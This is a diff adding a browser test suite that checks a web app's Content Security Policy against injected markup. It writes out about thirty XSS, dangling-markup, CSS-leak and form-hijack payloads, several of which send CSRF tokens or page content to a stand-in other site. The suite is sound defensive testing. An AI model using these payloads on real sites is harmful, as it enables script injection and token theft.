@@ -1,0 +1,375 @@
+/**
+ * What markup that got into a page can do, in a real Chromium on the production build: each attack works on the page without its
+ * policy, and is dead with it. The holes are planted (test/fixtures/attacked).
+ */
+import assert from "node:assert/strict";
+import { after, before, describe, it } from "node:test";
+import type { Browser, Page } from "playwright-core";
+import { launchBrowser, openTab } from "./browser.ts";
+import { startBuilt, type BuiltApp } from "./built-app.ts";
+import { otherSite, type OtherSite } from "./other-site.ts";
+
+let app: BuiltApp;
+let browser: Browser;
+let other: OtherSite;
+
+before(async () => {
+  app = await startBuilt("attacked");
+  browser = await launchBrowser();
+  other = await otherSite();
+});
+after(async () => {
+  await browser?.close();
+  await app?.close();
+  await other?.close();
+});
+
+/** A wait that never ends would say nothing of which attack it was. */
+const DEADLINE_MS = 30_000;
+
+const FIRE = "(globalThis.fired??=[]).push(1)";
+
+interface Attack {
+  name: string;
+  /** What the URL brings. */
+  text: (elsewhere: string) => string;
+  /** Default: the page that writes it as HTML. */
+  path?: string;
+  /** What the visitor does. */
+  act?: (page: Page) => Promise<unknown>;
+  /** Prefix of the URL that the other site is asked for where it works; else it says so in the page. */
+  asks?: string;
+  /** The other site may be asked for something whose answer is not used: browsers look ahead of what they parse. */
+  isAskedInVain?: true;
+  /** Directive that refuses it. */
+  directive: string;
+}
+
+/** Without waiting for where it leads, which may be nowhere. */
+const press = (selector: string) => (page: Page) =>
+  page.evaluate((found) => document.querySelector<HTMLElement>(found)?.click(), selector);
+
+const ATTACKS: Attack[] = [
+  { name: "an inline script", text: () => `<script>${FIRE}</script>`, directive: "script-src-elem" },
+  {
+    name: "an inline handler",
+    text: () => `<img src="data:," onerror="${FIRE}">`,
+    directive: "script-src-attr",
+  },
+  {
+    name: "an inline handler in SVG",
+    text: () => `<svg onload="${FIRE}">`,
+    directive: "script-src-attr",
+  },
+  {
+    name: "a script from the site's own uploads",
+    text: () => `<script src="/uploads/a.js"></script>`,
+    directive: "script-src-elem",
+  },
+  {
+    name: "a module from the site's own uploads",
+    text: () => `<script type="module">import "/uploads/a.js"</script>`,
+    directive: "script-src-elem",
+  },
+  {
+    name: "a script from another site",
+    text: (elsewhere) => `<script src="${elsewhere}/a.js"></script>`,
+    directive: "script-src-elem",
+  },
+  {
+    name: "a script in SVG",
+    text: () => `<svg><script href="/uploads/a.js" /></svg>`,
+    directive: "script-src-elem",
+  },
+  {
+    name: "a script that pretends to know a nonce",
+    text: () => `<script nonce="AAAAAAAAAAAAAAAAAAAAAA==">${FIRE}</script>`,
+    directive: "script-src-elem",
+  },
+  {
+    name: "an import map",
+    text: (elsewhere) =>
+      `<script type="importmap">{"imports":{"/_svc/core.js":"${elsewhere}/core.js"}}</script>` +
+      `<script type="module">${FIRE}</script>`,
+    directive: "script-src-elem",
+  },
+  {
+    name: "a javascript: link",
+    text: () => `<a id="bait" href="javascript:${FIRE};void 0">bait</a>`,
+    act: press("#bait"),
+    directive: "script-src-elem",
+  },
+  {
+    name: "a javascript: form",
+    text: () => `<form action="javascript:${FIRE};void 0"><button id="bait">bait</button></form>`,
+    act: press("#bait"),
+    directive: "form-action",
+  },
+  {
+    name: "a frame with a document of its own",
+    text: () => `<iframe srcdoc="<script>(parent.fired??=[]).push(1)</script>"></iframe>`,
+    directive: "script-src-elem",
+  },
+  {
+    name: "a base that moves the site's own scripts",
+    text: (elsewhere) => `<base href="${elsewhere}/">`,
+    isAskedInVain: true,
+    directive: "base-uri",
+  },
+  {
+    name: "a frame of another site",
+    text: (elsewhere) => `<iframe src="${elsewhere}/frame"></iframe>`,
+    asks: "/frame",
+    directive: "frame-src",
+  },
+  {
+    name: "an object",
+    text: (elsewhere) => `<object data="${elsewhere}/object"></object>`,
+    asks: "/object",
+    directive: "object-src",
+  },
+  {
+    name: "an embed",
+    text: (elsewhere) => `<embed src="${elsewhere}/embed" type="text/html">`,
+    asks: "/embed",
+    directive: "object-src",
+  },
+  {
+    name: "a form to another site",
+    text: (elsewhere) => `<form method="post" action="${elsewhere}/form"><button id="bait">bait</button></form>`,
+    act: press("#bait"),
+    asks: "/form",
+    directive: "form-action",
+  },
+  {
+    name: "a form around the visitor's token",
+    text: (elsewhere) => `<form method="get" action="${elsewhere}/token">`,
+    act: press("button:not([id])"),
+    asks: "/token?_csrf=",
+    directive: "form-action",
+  },
+  {
+    name: "an image whose address swallows what follows it",
+    text: (elsewhere) => `<img src='${elsewhere}/dangling?`,
+    // Closed by the first quote of its kind: what stands before it goes along.
+    path: "/before-script",
+    asks: "/dangling?",
+    directive: "img-src",
+  },
+  {
+    name: "a script that swallows the nonce of the one behind it",
+    text: (elsewhere) => `<script src="${elsewhere}/a.js" x=`,
+    path: "/before-script",
+    isAskedInVain: true,
+    directive: "script-src-elem",
+  },
+  {
+    name: "a style that reads the token letter by letter",
+    text: (elsewhere) => `<style>[name=_csrf][value]{--x:1}form{background:url(${elsewhere}/letter)}</style>`,
+    asks: "/letter",
+    directive: "style-src-elem",
+  },
+  {
+    name: "a stylesheet of another site",
+    text: (elsewhere) => `<link rel="stylesheet" href="${elsewhere}/a.css">`,
+    asks: "/a.css",
+    directive: "style-src-elem",
+  },
+  {
+    name: "a style attribute that loads",
+    text: (elsewhere) => `<p style="background:url(${elsewhere}/attribute)">bait`,
+    asks: "/attribute",
+    directive: "img-src",
+  },
+  {
+    name: "a font that counts letters",
+    text: (elsewhere) =>
+      `<svg><style>@font-face{font-family:f;src:url(${elsewhere}/font)}button{font-family:f}</style></svg>`,
+    asks: "/font",
+    directive: "style-src-elem",
+  },
+  {
+    name: "a film of another site",
+    text: (elsewhere) => `<video autoplay src="${elsewhere}/film"></video>`,
+    asks: "/film",
+    directive: "media-src",
+  },
+  {
+    name: "rules that fetch pages ahead",
+    text: (elsewhere) =>
+      `<script type="speculationrules">{"prefetch":[{"urls":["${elsewhere}/x"]}]}</script><script>${FIRE}</script>`,
+    directive: "script-src-elem",
+  },
+  { name: "eval in a script of the site", path: "/gadget?do=eval", text: () => FIRE, directive: "script-src" },
+  {
+    name: "new Function in a script of the site",
+    path: "/gadget?do=function",
+    text: () => FIRE,
+    directive: "script-src",
+  },
+  {
+    name: "a timer with a text in a script of the site",
+    path: "/gadget?do=timeout",
+    text: () => FIRE,
+    directive: "script-src",
+  },
+  {
+    name: "a script that a script of the site writes into the parser",
+    path: "/gadget?do=write",
+    text: () => `<script src="/uploads/a.js"></script>`,
+    directive: "script-src-elem",
+  },
+  {
+    name: "a handler in HTML that a script of the site makes",
+    path: "/gadget?do=html",
+    text: () => `<img src="data:," onerror="${FIRE}">`,
+    directive: "script-src-attr",
+  },
+  {
+    name: "a javascript: URL that a script of the site goes to",
+    path: "/gadget?do=url",
+    text: () => `javascript:${FIRE};void 0`,
+    directive: "script-src-elem",
+  },
+  {
+    name: "the registration of an upload as a service worker",
+    text: () => `<script>navigator.serviceWorker.register("/uploads/a.js").then(()=>{${FIRE}})</script>`,
+    directive: "script-src-elem",
+  },
+];
+
+function urlOf({ path = "/hole", text }: Attack): URL {
+  const url = new URL(path, app.url);
+  url.searchParams.set("x", text(other.origin));
+  return url;
+}
+
+const hasFired = (page: Page): Promise<boolean> => page.evaluate("Boolean(globalThis.fired)");
+
+/** Without the policy. Ends when it has worked. */
+async function works(attack: Attack): Promise<void> {
+  const tab = await openTab(browser);
+  const { page } = tab;
+  const url = urlOf(attack);
+  url.searchParams.set("policy", "off");
+  const asked = attack.asks === undefined ? undefined : other.hit(attack.asks);
+  await page.goto(url.href);
+  await attack.act?.(page);
+  if (asked) await asked;
+  else await page.waitForFunction("globalThis.fired");
+  await tab.leave();
+}
+
+/** With the policy: the browser says that it refused it, and nothing came of it. */
+async function isDead(attack: Attack): Promise<void> {
+  other.forget();
+  const tab = await openTab(browser);
+  const { page } = tab;
+  const refused = page.waitForEvent("console", (message) =>
+    message.text().startsWith(`CSP: ${attack.directive} refused`),
+  );
+  await page.goto(urlOf(attack).href);
+  await attack.act?.(page);
+  await refused;
+  // What the page had to do after the refusal, it has done by the time of a task later on.
+  assert.equal(await hasFired(page), false);
+  if (!attack.isAskedInVain) assert.deepEqual(other.hits, []);
+  await tab.leave();
+}
+
+describe("markup of a stranger in a page", () => {
+  for (const attack of ATTACKS) {
+    it(
+      `${attack.name} works without the policy and is refused with it (${attack.directive})`,
+      { timeout: DEADLINE_MS },
+      async () => {
+        await works(attack);
+        await isDead(attack);
+      },
+    );
+  }
+});
+
+/** Opens the page with this in its hole, under its policy. */
+async function inHole(text: string, story: (page: Page) => Promise<void>): Promise<void> {
+  const tab = await openTab(browser);
+  const url = new URL("/hole", app.url);
+  url.searchParams.set("x", text);
+  await tab.page.goto(url.href);
+  await story(tab.page);
+  await tab.leave();
+}
+
+describe("markup in the terms of the framework", () => {
+  const scopes = {
+    "a chunk that climbs": `<div s="1 ../../uploads/a"><b id="bait" on:click="h0">bait</b></div>`,
+    "a chunk that climbs in code": `<div s="1 %2e%2e/.%2E/uploads/a"><b id="bait" on:click="h0">bait</b></div>`,
+    "a part that climbs": `<div s="1 x ../uploads/a"><b id="bait" on:click="h0">bait</b></div>`,
+    "a state that names modules elsewhere":
+      `<script type="application/json" id="svc-state">` +
+      `{"csrf_token":"","build":"","s":{"1":["x",0]},"v":[],"n":{"1":["../uploads/a"]}}</script><b id="bait"></b>`,
+  };
+  for (const [name, text] of Object.entries(scopes)) {
+    it(`${name}: no script is fetched from outside the framework's folder`, { timeout: DEADLINE_MS }, () =>
+      inHole(text, async (page) => {
+        const scripts: string[] = [];
+        page.on("request", (request) => {
+          if (request.resourceType() === "script") scripts.push(new URL(request.url()).pathname);
+        });
+        const asked = page.waitForRequest(/uploads/);
+        await press("#bait")(page);
+        await press("#count")(page);
+        await asked;
+        assert.deepEqual(
+          scripts.filter((path) => !path.startsWith("/_svc/")),
+          [],
+        );
+        assert.equal(await hasFired(page), false);
+      }),
+    );
+  }
+});
+
+describe("frames", () => {
+  it("of another site don't show ours, and do where the answer allows it", { timeout: DEADLINE_MS }, async () => {
+    const tab = await openTab(browser);
+    const { page } = tab;
+    other.serve("/lure-open", `<iframe src="${app.url}/hole?policy=off"></iframe>`);
+    await page.goto(`${other.origin}/lure-open`);
+    await page.frameLocator("iframe").locator("#count").waitFor();
+    other.serve("/lure", `<iframe src="${app.url}/hole"></iframe>`);
+    const refused = page.waitForEvent("console", (message) => /frame-ancestors|X-Frame-Options/.test(message.text()));
+    await page.goto(`${other.origin}/lure`);
+    await refused;
+    assert.ok(page.frames().every((frame) => !frame.url().startsWith(app.url)));
+    await tab.leave();
+  });
+});
+
+describe("what no policy stops", () => {
+  it(
+    "a refresh sends the visitor elsewhere, and tells there neither path nor token",
+    { timeout: DEADLINE_MS },
+    async () => {
+      const asked = other.hit("/refreshed");
+      await inHole(`<meta http-equiv="refresh" content="0;url=${other.origin}/refreshed">`, async () => {
+        const { headers, url } = await asked;
+        assert.equal(headers.referer, `${app.url}/`);
+        assert.equal(url, "/refreshed");
+        assert.equal(headers.cookie, undefined);
+      });
+    },
+  );
+
+  it("the nonce stands in the page, but neither styles nor attributes tell it", { timeout: DEADLINE_MS }, () =>
+    inHole("", async (page) => {
+      assert.deepEqual(
+        await page.evaluate(() => [
+          document.querySelectorAll("script[nonce]").length > 0,
+          [...document.querySelectorAll("script[nonce]")].map((script) => script.getAttribute("nonce")).join(""),
+        ]),
+        [true, ""],
+      );
+    }),
+  );
+});
